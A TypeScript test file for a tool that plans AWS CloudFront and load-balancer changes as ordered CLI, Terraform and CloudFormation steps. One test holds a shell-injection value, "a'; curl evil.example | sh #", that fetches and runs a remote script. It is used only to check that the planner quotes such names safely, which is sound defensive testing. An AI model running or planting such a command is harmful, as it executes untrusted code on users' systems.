import { describe, expect, it } from 'vitest';

import { draftOf } from '@/lib/edits/draft';
import { parseEdit } from '@/lib/edits/edit-text';
import { SETTING_IDS } from '@/lib/edits/setting';
import { SETTINGS } from '@/lib/edits/settings';
import { subjectsOf } from '@/lib/edits/subjects';
import type { Inventory } from '@/lib/inventory/inventory';
import type { Service } from '@/lib/inventory/service';
import { isUnknown } from '@/lib/inventory/unknown';
import { bearsSecret, lockedChain } from '@/lib/testing/locked-chain';
import {
  behavior,
  certificate,
  distribution,
  forwardTo,
  healthCheck,
  listener,
  loadBalancer,
  origin,
  rule,
  targetGroup,
} from '@/lib/testing/sample-parts';
import { service } from '@/lib/testing/sample-service';
import { smallAccount } from '@/lib/testing/small-account';
import { unknownProperties } from '@/lib/testing/unknown-properties';

import { type Step, type StepCode, STEP_PARAMS } from './step';
import { stepsFor } from './steps-for';

const path = { field: 'path-pattern' as const, values: ['/api/*'], regexValues: [] };
const withApi: Partial<Inventory> = {
  distributions: [
    distribution({ cacheBehaviors: [behavior({ pathPattern: '/api/*' })], webAclId: 'arn:aws:wafv2:us-east-1:1:global/webacl/edge/1' }),
  ],
  loadBalancers: [
    loadBalancer({
      listeners: [listener({ rules: [rule(1, [forwardTo('web', 'api')], [path, bearsSecret()]), rule(null, [forwardTo('web')])] })],
    }),
  ],
  targetGroups: [targetGroup(), targetGroup({ name: 'api' })],
};

/** A service that deploys to and fro between `web` and `green`. */
function blueGreen(changed: Partial<Service> = {}): Partial<Inventory> {
  const green = targetGroup({ name: 'green' });
  const { loadBalancers } = service();
  const paired = isUnknown(loadBalancers) ? [] : loadBalancers.map((one) => ({ ...one, alternateTargetGroupArn: green.arn }));
  return { targetGroups: [targetGroup(), green], services: [service({ loadBalancers: paired, ...changed })] };
}

function steps(parts: Partial<Inventory>, ...words: string[]): Step[] {
  const inventory = smallAccount(parts);
  return stepsFor(
    draftOf(inventory),
    words.map((text) => parseEdit(inventory, text)),
  );
}

const codes = (all: readonly Step[]): StepCode[] => all.map(({ code }) => code);

describe('stepsFor', () => {
  it('replaces a target group without downtime: the new one is healthy before it gets requests, and the old one idle before it goes', () => {
    expect(codes(steps({}, 'ProtocolVersion=HTTP2'))).toEqual([
      'change-container',
      'create-target-group',
      'attach-target-group',
      'create-service',
      'wait-healthy',
      'shift-some',
      'verify-request',
      'shift-all',
      'detach-target-group',
      'delete-service',
      'delete-target-group',
    ]);
  });

  it('asks for a page that leads to the group, not to another distribution’s', () => {
    const other = distribution({
      id: 'E0',
      domainName: 'd0.cloudfront.net',
      aliases: ['other.example.com'],
      origins: [origin({ domainName: 'elsewhere.example.net' })],
    });
    const [verified] = steps({ distributions: [other, distribution()] }, 'ProtocolVersion=HTTP2').filter(
      ({ code }) => code === 'verify-request',
    );
    expect(verified?.params['url']).toBe('https://www.example.com/');
  });

  it('replaces it once where both its protocol and its version change', () => {
    const both = steps({}, 'ProtocolVersion=HTTP2', 'Protocol=HTTPS');
    expect(codes(both).filter((code) => code === 'create-target-group')).toHaveLength(1);
    expect(both.find(({ code }) => code === 'create-target-group')!.how.cli).toContain('--protocol HTTPS --protocol-version HTTP2');
    expect(both[0]!.server).toBe(
      [
        'server {',
        '    listen 80 ssl http2; # from nginx 1.25.1 on: http2 on;',
        '    ssl_certificate     /etc/nginx/tls/tls.crt; # may be self-signed: the load balancer does not validate it',
        '    ssl_certificate_key /etc/nginx/tls/tls.key;',
        '}',
      ].join('\n'),
    );
  });

  it.each([
    ['traffic-port', 'HTTPS'],
    ['8081', 'HTTP'],
  ])('checks port %s of a group that is to speak TLS over %s', (port, protocol) => {
    const made = steps({ targetGroups: [targetGroup({ healthCheck: healthCheck({ port }) })] }, 'Protocol=HTTPS');
    const { how } = made.find(({ code }) => code === 'create-target-group')!;
    expect(how.cli).toContain(`--health-check-protocol ${protocol} --health-check-port ${port}`);
  });

  it('registers targets by hand where no service runs them', () => {
    expect(codes(steps({ services: [], tasks: [] }, 'ProtocolVersion=HTTP2'))).toContain('register-targets');
  });

  it('lets a service deploy to another alternate target group, and keeps the service', () => {
    const made = steps(blueGreen(), 'ProtocolVersion:green=HTTP2');
    expect(codes(made)).toEqual(['create-target-group', 'change-alternate', 'delete-target-group']);
    expect(made[1]!.how.cli).toContain('aws ecs update-service');
    const byCodeDeploy = steps(blueGreen({ deploymentController: 'CODE_DEPLOY' }), 'ProtocolVersion:green=HTTP2');
    expect(byCodeDeploy[1]!.how.cli).toMatch(/^# web is deployed by CODE_DEPLOY/);
  });

  it('changes nothing where nothing changes', () => {
    expect(steps({}, 'ProtocolVersion=HTTP1')).toEqual([]);
  });

  it('keeps what somebody has set of a target group, and leaves out what AWS sets', () => {
    const attributes = { 'deregistration_delay.timeout_seconds': '30', 'stickiness.enabled': 'true', 'slow_start.duration_seconds': '0' };
    const made = steps({ targetGroups: [targetGroup({ attributes })] }, 'ProtocolVersion=HTTP2');
    const { how } = made.find(({ code }) => code === 'create-target-group')!;
    expect(how.cli).toContain('Key=deregistration_delay.timeout_seconds,Value=30 Key=stickiness.enabled,Value=true');
    expect(how.cli).not.toContain('slow_start');
    expect(how.terraform).toContain('deregistration_delay = "30"');
    expect(made.at(-1)!.params).toMatchObject({ seconds: 30 });
  });

  it('has CloudFront send the secret before rules ask for it', () => {
    expect(codes(steps({}, 'SecretHeader=required'))).toEqual(['send-secret', 'ask-for-secret', 'refuse-by-default']);
  });

  it('makes the secret where no distribution sends it', () => {
    const [asked] = steps({ distributions: [] }, 'SecretHeader=required');
    expect(asked!.how.cli).toMatch(/^export ORIGIN_SECRET=/);
  });

  it('writes no secret down', () => {
    for (const { how } of steps(lockedChain(), 'SecretHeader=required')) expect(JSON.stringify(how)).not.toContain('what-if');
  });

  it('lets the new sources in before the others go', () => {
    expect(codes(steps({}, 'Ingress:sg-alb:443=cloudfront'))).toEqual(['admit-sources', 'revoke-rules']);
    expect(codes(steps({}, 'Ingress:sg-alb:443=none'))).toEqual(['revoke-rules']);
  });

  it('readies the load balancer before names move away from CloudFront', () => {
    expect(codes(steps({ ...withApi, ...{ distributions: withApi.distributions! } }, 'CloudFront=removed'))).toEqual([
      'request-certificate',
      'add-certificate',
      'associate-web-acl',
      'admit-sources',
      'revoke-rules',
      'stop-asking-for-secret',
      'move-names',
      'verify-request',
      'release-names',
      'delete-distribution',
    ]);
  });

  it('keeps an OpenID client’s secret, which AWS does not tell', () => {
    const signIn = { type: 'authenticate-oidc' as const, issuer: 'https://id.example.com', onUnauthenticatedRequest: 'authenticate' };
    const loadBalancers = [loadBalancer({ listeners: [listener({ rules: [rule(null, [signIn, forwardTo('web')])] })] })];
    const attach = steps({ loadBalancers }, 'ProtocolVersion=HTTP2').find(({ code }) => code === 'attach-target-group')!;
    expect(attach.how.cli).toContain('UseExistingClientSecret = true');
    expect(steps({}, 'ProtocolVersion=HTTP2').find(({ code }) => code === 'attach-target-group')!.how.cli).not.toContain('UseExisting');
  });

  it('quotes names that somebody else made up', () => {
    const evil = "a'; curl evil.example | sh #";
    const made = steps(
      { distributions: [distribution({ origins: [origin({ id: evil })], defaultCacheBehavior: behavior({ targetOriginId: evil }) })] },
      'OriginProtocolPolicy=http-only',
    );
    expect(made[0]!.how.cli).toContain(`'\\''; curl evil.example | sh #`);
    expect(made[0]!.how.cloudFormation).toContain(`Id: "a'; curl evil.example | sh #"`);
  });
});

describe('every setting', () => {
  const variants = [
    withApi,
    lockedChain(),
    blueGreen(),
    { services: [], tasks: [], certificates: [certificate('origin', ['origin.example.com'])] },
  ];
  const made = variants.flatMap((parts) => {
    const inventory = smallAccount(parts);
    const draft = draftOf(inventory);
    return SETTING_IDS.flatMap((setting) =>
      subjectsOf(inventory, SETTINGS[setting].of).flatMap(({ id }) =>
        SETTINGS[setting]
          .choices(draft, id)
          .filter((value) => value !== SETTINGS[setting].current(draft, id))
          .map((value) => ({ setting, value, steps: stepsFor(draft, [{ setting, subject: id, value }]) })),
      ),
    );
  });

  it('comes out as steps for every tool', () => {
    for (const { setting, value, steps: own } of made.filter((one) => one.setting !== 'Server' || one.steps.length > 0)) {
      expect(own.length, `${setting}=${value}`).toBeGreaterThan(0);
      expect(
        own.some(({ how }) => how.cli !== null),
        `${setting}=${value}`,
      ).toBe(true);
    }
  });

  it('uses every step that there is a sentence for, but for VPC origins', () => {
    const used = new Set(made.flatMap(({ steps: own }) => codes(own)));
    expect(Object.keys(STEP_PARAMS).filter((code) => !used.has(code as StepCode))).toEqual(['update-vpc-origin']);
  });

  it('names only properties that CloudFormation has', () => {
    const templates = new Set(made.flatMap(({ steps: own }) => own.flatMap(({ how }) => how.cloudFormation ?? [])));
    expect([...templates].flatMap(unknownProperties)).toEqual([]);
  });

  it('has text without holes', () => {
    for (const { steps: own } of made)
      for (const { how, server } of own) expect(JSON.stringify([how, server])).not.toMatch(/undefined|\[object|NaN/);
  });
});
